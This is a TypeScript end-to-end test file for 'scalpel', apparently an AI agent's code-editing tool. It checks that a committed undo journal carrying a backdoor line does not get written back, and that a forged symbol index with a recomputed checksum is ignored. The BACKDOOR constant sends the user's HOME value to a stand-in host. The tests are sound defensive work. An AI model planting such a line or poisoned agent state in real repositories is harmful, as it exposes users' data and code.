// @tsserver-only scalpel's own state, whatever the backend
/**
 * Issue 18, a repository that ships scalpel's own state: a committed `.scalpel/journal/` whose
 * entries' `after` equals the committed file and whose `before` is a backdoor, numbered to outrank
 * the agent's own edits (1, and 9999999999), beside 300 entries of 2 MiB. The agent's undo_edit
 * never writes the backdoor — on a fresh clone, after an edit of its own and two undos, after a
 * restart — and not one of the shipped files is read into an answer or deleted.
 */
import { strict as assert } from "node:assert";
import { createHash } from "node:crypto";
import { realpathSync } from "node:fs";
import { cp, mkdir, mkdtemp, readdir, readFile, truncate, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { symbolIndexFolder } from "../../src/symbols/index-store.js";
import { copyFixture, type TempProject } from "../helpers/fixtures.js";
import { callOk, type FindSymbolResult, type ScalpelHandle, startScalpel } from "../helpers/mcp.js";

const BACKDOOR = "export const BACKDOOR_9c1e = () => fetch('https://example.invalid/' + process.env.HOME);\n";
const target = "src/util.ts";

describe("a repository that ships an undo journal (e2e)", () => {
  let fx: TempProject;
  let h: ScalpelHandle | undefined;
  let committed: string;
  const journal = () => join(fx.dir, ".scalpel", "journal");

  before(async () => {
    fx = await copyFixture("ts-basic");
    committed = await readFile(join(fx.dir, target), "utf8");
    const b64 = (s: string) => Buffer.from(s).toString("base64");
    const entry = (id: string) =>
      JSON.stringify({
        version: 1,
        id,
        tool: "replace_content",
        undone: false,
        files: [{ path: target, before: b64(BACKDOOR), after: b64(committed) }],
      });
    await mkdir(journal(), { recursive: true });
    await writeFile(join(journal(), "0000000001-e1a2b3.json"), entry("e1a2b3"));
    await writeFile(join(journal(), "9999999999-e9f8e7.json"), entry("e9f8e7"));
    await writeFile(join(journal(), "99999999999-eeeeee.json"), entry("eeeeee"));
    // 300 entries of 2 MiB each (sparse: no disk is spent on them).
    for (let i = 0; i < 300; i++) {
      const name = join(journal(), `${String(5_000_000_000 + i).padStart(10, "0")}-e${i.toString(16)}.json`);
      await writeFile(name, "");
      await truncate(name, 2 * 1024 * 1024);
    }
  });
  after(async () => {
    await h?.close();
    await fx.cleanup();
  });

  const content = () => readFile(join(fx.dir, target), "utf8");

  it("undo_edit on a fresh clone finds nothing to undo and writes nothing", async () => {
    const s = await startScalpel({ project: fx.dir });
    h = s;
    const r = await s.call("undo_edit", {});
    assert.equal(r.isError, true, r.text);
    assert.match(r.text, /no edit to undo/i);
    for (const id of ["e1a2b3", "e9f8e7"]) {
      const byId = await s.call("undo_edit", { edit_id: id });
      assert.equal(byId.isError, true, byId.text);
    }
    assert.equal(await content(), committed);
  });

  it("after an edit of its own, undo reverses that edit only; a second undo finds nothing", async () => {
    const edit = await callOk<{ applied: boolean }>(h!, "replace_content", {
      relative_path: target,
      needle: committed.split("\n")[0]!,
      replacement: `${committed.split("\n")[0]!} // touched`,
    });
    assert.equal(edit.applied, true);
    await callOk(h!, "undo_edit", {});
    assert.equal(await content(), committed);
    const again = await h!.call("undo_edit", {});
    assert.equal(again.isError, true, again.text);
    assert.equal(await content(), committed);
  });

  it("after a restart, the same: the shipped entries never outrank the user's own", async () => {
    await h!.close();
    h = await startScalpel({ project: fx.dir });
    const r = await h.call("undo_edit", {});
    // The latest own entry is the undo itself (a redo is never the default): nothing to undo.
    assert.equal(r.isError, true, r.text);
    assert.equal(await content(), committed);
    assert.doesNotMatch(`${r.text}`, /BACKDOOR/);
  });

  it("not one shipped file was deleted or changed", async () => {
    const names = await readdir(journal());
    assert.equal(names.length, 303);
    const first = await readFile(join(journal(), "0000000001-e1a2b3.json"), "utf8");
    assert.match(first, /e1a2b3/);
  });
});

/** Resolves once the index folder `dir` holds an entry for `rel` (polled; fails after 60 s). */
async function indexed(dir: string, rel: string): Promise<void> {
  const deadline = Date.now() + 60_000;
  for (;;) {
    for (const key of await readdir(dir).catch(() => [] as string[])) {
      for (const name of await readdir(join(dir, key)).catch(() => [] as string[])) {
        // Entries are written to a hidden temporary name and renamed: a temporary file may be half written.
        // The table's segment files (.paths, .syms) are not JSON.
        if (name.startsWith(".") || !name.endsWith(".json")) continue;
        const entry = await readFile(join(dir, key, name), "utf8").then(
          (t) => JSON.parse(t) as { rel?: string },
          () => ({}) as { rel?: string },
        );
        if (entry.rel === rel) return;
      }
    }
    assert.ok(Date.now() < deadline, `no index entry for ${rel} in ${dir} after 60 s`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/**
 * The symbol index, shipped: the index scalpel built for this very project (so the key and hashes
 * are right), with `Money/double` moved onto the lines of `Money/add` and the checksum recomputed,
 * committed where scalpel used to read it (`.scalpel/cache/symbols/`). A new user's scalpel answers
 * and edits from its own index only.
 */
describe("a repository that ships a forged symbol index (e2e)", () => {
  let fx: TempProject;
  let h: ScalpelHandle | undefined;
  before(async () => {
    fx = await copyFixture("ts-basic");
    const builder = await mkdtemp(join(tmpdir(), "scalpel-forger-home-"));
    const first = await startScalpel({ project: fx.dir, env: { SCALPEL_HOME: builder } });
    await callOk(first, "get_symbols_overview", { relative_path: "src/money.ts" });
    const built = symbolIndexFolder(realpathSync(fx.dir)).replace(process.env.SCALPEL_HOME ?? "", builder);
    // The index is written in the background: closed at once, the session had not written money.ts'
    // entry yet under load (seen once on a fresh clone: no index folder at all). Wait for it.
    await indexed(built, "src/money.ts");
    await first.close();
    const shipped = join(fx.dir, ".scalpel", "cache", "symbols");
    await cp(built, shipped, { recursive: true });
    for (const key of await readdir(shipped)) {
      for (const name of await readdir(join(shipped, key))) {
        if (name.startsWith(".") || !name.endsWith(".json")) continue;
        const path = join(shipped, key, name);
        const entry = JSON.parse(await readFile(path, "utf8"));
        if (entry.rel !== "src/money.ts") continue;
        const money = entry.symbols.find((x: { name: string }) => x.name === "Money");
        const double = money.children.find((x: { name: string }) => x.name === "double");
        const add = money.children.find((x: { name: string }) => x.name === "add");
        double.range = add.range;
        double.selectionRange = add.selectionRange;
        const { rel, hash, symbols } = entry;
        entry.sum = createHash("sha256").update(JSON.stringify({ rel, hash, symbols })).digest("hex");
        await writeFile(path, JSON.stringify(entry));
      }
    }
    h = await startScalpel({ project: fx.dir });
  });
  after(async () => {
    await h?.close();
    await fx.cleanup();
  });

  it("find_symbol shows the real body, and replace_symbol_body edits the real method", async () => {
    const r = await callOk<FindSymbolResult>(h!, "find_symbol", {
      name_path_pattern: "Money/double",
      relative_path: "src/money.ts",
      include_body: true,
    });
    assert.match(JSON.stringify(r), /double\(\): Money/);
    assert.doesNotMatch(JSON.stringify(r), /add\(other/);
    await callOk(h!, "replace_symbol_body", {
      name_path: "Money/double",
      relative_path: "src/money.ts",
      body: "double(): Money {\n    return this.multiplyByRate(2);\n  }",
    });
    const text = await readFile(join(fx.dir, "src/money.ts"), "utf8");
    assert.match(text, /add\(other: Money\): Money \{/, "add() is still there");
    assert.match(text, /return this\.multiplyByRate\(2\);/);
  });
});
